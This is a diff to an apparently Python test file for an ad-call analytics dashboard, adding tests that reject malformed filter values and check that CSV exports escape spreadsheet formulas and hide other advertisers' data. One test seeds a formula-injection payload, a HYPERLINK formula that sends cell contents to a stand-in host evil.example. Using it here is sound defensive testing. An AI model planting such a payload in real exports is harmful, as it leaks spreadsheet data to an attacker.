@@ -407,9 +407,9 @@ async def test_keyword_report_splits_sources_by_default_and_drills_down(
         assert len(csv_cells(found.content)) - 1 == calls, drill
         log = await client.get(f"/dashboard/calls?from={DAY}&to={DAY}&{drill}")
         assert len(re.findall(r'href="/dashboard/calls/\d+"', log.text)) == calls, drill
-    assert (
-        await client.get("/dashboard/calls?by=keyword&value=x&by2=weather&value2=1")
-    ).status_code == 400
+    for bad in ("by2=weather&value2=1", "by2=source&value2=%00", "by2=source&value2=" + "x" * 501):
+        refused = await client.get(f"/dashboard/calls?by=keyword&value=x&{bad}")
+        assert refused.status_code == 400, bad
     phrase = await client.get(
         f"/dashboard/calls/export?from={DAY}&to={DAY}&by=match_type&value=phrase"
     )
@@ -447,3 +447,28 @@ async def test_api_breakdown_and_filters(
                 "&source=" + "x" * 501, "&campaign=%00"):  # fmt: skip
         refused = await client.get(base + bad, headers=auth)
         assert refused.status_code == 422, bad
+
+
+async def test_table_downloads_escape_formulas_and_keep_to_the_viewers_advertiser(
+    client: httpx.AsyncClient, db: Store, seeded: Seeded
+) -> None:
+    await write_day(db, seeded)
+    formula = '=HYPERLINK("https://evil.example/?"&A1)'
+    async with db.write() as conn:
+        await add_session(conn, seeded.site_a, at(15), source="google", keyword=formula)
+    await login(client, seeded.member_a, PASSWORD)
+    query = f"from={DAY}&to={DAY}&by=keyword&by2=source"
+    got = csv_cells((await client.get(f"/dashboard/reports/export?table=report&{query}")).content)
+    assert ["'" + formula, "Subtotal", "1", "0"] in [row[:4] for row in got]
+    assert formula not in [row[0] for row in got]
+    client.cookies.clear()
+    await login(client, seeded.member_b, PASSWORD)
+    for name in ("report", "heatmap", "targets"):
+        other = await client.get(
+            f"/dashboard/reports/export?table={name}&advertiser={seeded.adv_a}&{query}"
+        )
+        assert other.status_code == 404, name
+        own = await client.get(f"/dashboard/reports/export?table={name}&{query}")
+        assert own.status_code == 200 and KW not in own.text, name
+    heat = csv_cells((await client.get(f"/dashboard/reports/export?table=heatmap&{query}")).content)
+    assert heat[-1][-1] == "0"  # none of A's calls
